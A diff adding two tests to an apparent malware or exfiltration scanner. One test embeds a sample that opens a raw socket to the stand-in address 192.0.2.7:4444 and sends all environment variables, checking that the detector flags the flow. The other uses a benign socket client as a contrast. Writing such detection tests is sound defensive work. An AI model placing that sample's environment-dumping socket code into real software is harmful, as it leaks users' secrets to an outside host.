@@ -964,3 +964,25 @@ def test_exfil_flow_wired_across_three_modules_from_init(tmp_path: Path) -> None
     verdict, findings = scan_package(tmp_path, files)
     assert verdict is Verdict.MALICIOUS, findings
     assert any(f.startswith("exfil-flow:critical") and "(import)" in f for f in findings), findings
+
+
+def test_a_raw_socket_sends_where_it_connected() -> None:
+    source = """
+        import os, socket
+        def report():
+            s = socket.socket()
+            s.connect(("192.0.2.7", 4444))
+            s.sendall(str(dict(os.environ)).encode())
+    """
+    assert [(f.source, f.destination.host) for f in flows_of(source)] == [(Source.ENVIRONMENT, "192.0.2.7")]
+
+
+def test_benign_socket_client_sends_to_the_callers_host() -> None:
+    source = """
+        import os, socket
+        def send_token(host, token):
+            s = socket.socket()
+            s.connect((host, 443))
+            s.sendall(token.encode())
+    """
+    assert all(f.destination.host is None for f in flows_of(source))
